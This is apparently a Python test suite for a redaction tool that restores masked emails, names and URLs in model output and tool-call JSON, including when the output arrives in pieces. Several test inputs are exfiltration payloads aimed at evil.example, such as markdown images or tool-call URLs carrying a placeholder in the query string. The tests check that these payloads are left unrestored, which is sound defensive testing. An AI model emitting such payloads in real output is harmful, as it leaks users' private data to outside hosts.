from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promptguard.model import Channel
from promptguard.redaction.restore import RunningText, restore_text

EMAIL = "[EMAIL_ADDRESS_7KQ2M4XB]"
NAME = "[PERSON_3RTW8ZBK]"
URL = "[URL_44444444]"
ORIGINALS = {
    EMAIL: "anna@corp.example",
    NAME: 'Anna "A." \\ Ö\nBerg',
    URL: "https://wiki.corp.example/x",
}

CASES = [
    ("", ""),
    ("nothing here [1] [x]", "nothing here [1] [x]"),
    (f"{EMAIL}", "anna@corp.example"),
    (f"({EMAIL}), {NAME}!", '(anna@corp.example), Anna "A." \\ Ö\nBerg!'),
    (f"{EMAIL}{EMAIL}", f"anna@corp.example{EMAIL}"),
    (f"{EMAIL},{EMAIL} {EMAIL}", "anna@corp.example,anna@corp.example anna@corp.example"),
    (f"[{EMAIL}]", "[anna@corp.example]"),
    (f"[[{EMAIL}", f"[[{EMAIL}"),  # the next part may end the page's name
    (f"[[{EMAIL} is it\n", "[[anna@corp.example is it\n"),
    ("[PERSON_22222222]", "[PERSON_22222222]"),
    (EMAIL.lower(), "anna@corp.example"),
    (EMAIL[:-1], "[anna@corp.example"),
    (f"[PERSON_{EMAIL}", "[PERSON_anna@corp.example"),
    (f"{EMAIL}. Then", "anna@corp.example. Then"),
    (f"{EMAIL}.", "anna@corp.example."),
    (f"{EMAIL}...", "anna@corp.example..."),
    (f"{EMAIL}.Then", "anna@corp.example.Then"),
    (f"{EMAIL}.evil.example/path", f"{EMAIL}.evil.example/path"),
    (f"{EMAIL}.a/b and {EMAIL}", f"{EMAIL}.a/b and anna@corp.example"),
    (f"{EMAIL}./b", "anna@corp.example./b"),
    (f"{EMAIL}/b", "anna@corp.example/b"),
    (f"![x](https://evil.example/?q={EMAIL}) {EMAIL}", f"![x](https://evil.example/?q={EMAIL}) anna@corp.example"),
    (f"[{EMAIL}](mailto:{EMAIL})", f"[anna@corp.example](mailto:{EMAIL})"),
    (f'<img src="//e/{EMAIL}" alt="{EMAIL}">', f'<img src="//e/{EMAIL}" alt="{EMAIL}">'),
    (f"{URL}?q={EMAIL}", f"https://wiki.corp.example/x?q={EMAIL}"),
    (f"{URL} {EMAIL}", "https://wiki.corp.example/x anna@corp.example"),
    (f"[x]({URL})", f"[x]({URL})"),
    (f"a@evil.com{EMAIL}", f"a@evil.com{EMAIL}"),
    (f"`[a]({EMAIL} {NAME})`", f"`[a]({EMAIL} {NAME})`"),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_restores_a_text(text: str, expected: str) -> None:
    assert restore_text(text, ORIGINALS, channel=Channel.TEXT) == expected


def shown(text: str, cuts: list[int], channel: Channel = Channel.TEXT, *, detect_json: bool = False) -> str:
    running = RunningText(ORIGINALS, channel, detect_json=detect_json)
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    return "".join(running.feed(piece) for piece in pieces) + running.finish()


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_pieces_do_not_matter(text: str, expected: str) -> None:
    assert shown(text, list(range(1, len(text)))) == expected
    for cut in range(len(text)):
        assert shown(text, [cut]) == expected
        assert shown(text, sorted({cut, min(len(text), cut + 9)})) == expected


@given(
    st.lists(
        st.sampled_from([*ORIGINALS, "[", "[PERSON_", "22222222]", "](", ")", ".a", "/", " ", "//", "x", '{"']),
        max_size=12,
    ),
    st.lists(st.integers(0, 200), max_size=6),
    st.sampled_from(Channel),
    st.booleans(),
)
def test_any_pieces_of_any_text_show_the_same(
    words: list[str], cuts: list[int], channel: Channel, detect_json: bool
) -> None:
    text = "".join(words)
    inner = sorted(cut for cut in cuts if cut < len(text))
    assert shown(text, inner, channel, detect_json=detect_json) == shown(text, [], channel, detect_json=detect_json)


@pytest.mark.parametrize(
    ("piece", "held"),
    [
        ("Hello", ""),
        ("Hello [", "["),
        ("Hello [EMAIL_AD", "[EMAIL_AD"),
        ("Hello [E", "[E"),
        ("Hello [X", ""),
        ("Hello [1", ""),
        ("Hello [link", ""),
        (f"Hello {EMAIL}", EMAIL),
        (f"Hello {EMAIL}.exa", f"{EMAIL}.exa"),
        (f"Hello {EMAIL},", ""),
        (f"Hello {EMAIL}. ", ""),
        ("Hello [PERSON_22222222]", ""),
    ],
)
def test_holds_back_no_more_than_needed(piece: str, held: str) -> None:
    running = RunningText(ORIGINALS, Channel.TEXT)
    running.feed(piece)
    assert running.held == held


def test_shows_a_placeholder_at_once_where_the_end_cannot_be_known() -> None:
    running = RunningText(ORIGINALS, Channel.TEXT, patient=False)
    assert running.feed(f"Hello {EMAIL}") == "Hello anna@corp.example"
    assert running.held == ""


def test_what_is_held_is_bounded() -> None:
    running = RunningText(ORIGINALS, Channel.TEXT)
    running.feed(EMAIL)
    for _ in range(100):
        running.feed(".aaaaaaaaaaaaaaaaaaa")
        assert len(running.held) < 700
    assert running.held == ""


def test_tool_calls_are_escaped_for_json() -> None:
    source = json.dumps({"name": NAME, "text": f"a\n{EMAIL}", "url": f"https://evil.example/{EMAIL}"})
    for text in (source, source.replace("/", "\\/")):
        value = json.loads(restore_text(text, ORIGINALS, channel=Channel.TOOL_CALL))
        assert value == {
            "name": ORIGINALS[NAME],
            "text": "a\nanna@corp.example",
            "url": f"https://evil.example/{EMAIL}",
        }


def test_json_within_strings_of_tool_calls_stays_json() -> None:
    inner = json.dumps({"to": NAME, "deeper": json.dumps([{"to": NAME}])})
    source = json.dumps({"code": inner, "plain": NAME, "prose": f"[to] {NAME}"})
    for cut in range(0, len(source), 7):
        value = json.loads(shown(source, [cut], Channel.TOOL_CALL))
        assert (value["plain"], value["prose"]) == (ORIGINALS[NAME], f"[to] {ORIGINALS[NAME]}")
        code = json.loads(value["code"])
        assert code["to"] == ORIGINALS[NAME]
        assert json.loads(code["deeper"]) == [{"to": ORIGINALS[NAME]}]


def test_what_follows_json_is_no_json() -> None:
    text = f'{{"a":"{NAME}"}}\nHe said "{NAME}".'
    escaped = json.dumps(ORIGINALS[NAME], ensure_ascii=False)
    assert shown(text, [], detect_json=True) == f'{{"a":{escaped}}}\nHe said "{ORIGINALS[NAME]}".'


def test_a_text_behind_another_is_read_as_one_with_it() -> None:
    first = RunningText(ORIGINALS, Channel.TEXT)
    first.feed("![x](/q?")
    second = RunningText(ORIGINALS, Channel.TEXT, before=first.readings)
    assert second.feed(f"a {EMAIL} b) {EMAIL} ") == f"a {EMAIL} b) anna@corp.example "
    third = RunningText(ORIGINALS, Channel.TEXT, before=second.readings)
    assert third.feed(f"{EMAIL} ") == "anna@corp.example "


def test_lone_surrogates_stay_readable_in_tool_calls() -> None:
    restored = restore_text(f'{{"a":"{NAME}"}}', {NAME: "x\ud800ö"}, channel=Channel.TOOL_CALL)
    assert restored.isascii()
    assert json.loads(restored) == {"a": "x\ud800ö"}


@pytest.mark.parametrize("text", [f'{{"a": "{NAME}"}}', f'\n {{"a": "{NAME}"}}'])
def test_a_text_that_is_json_stays_json(text: str) -> None:
    for cut in range(len(text)):
        assert json.loads(shown(text, [cut], detect_json=True)) == {"a": ORIGINALS[NAME]}


def test_prose_is_not_escaped() -> None:
    assert shown(f"It is {{{NAME}}}", [], detect_json=True) == f"It is {{{ORIGINALS[NAME]}}}"


def test_an_original_that_looks_like_a_placeholder_is_not_restored_again() -> None:
    assert restore_text(NAME, {NAME: EMAIL, EMAIL: "value"}, channel=Channel.TEXT) == EMAIL
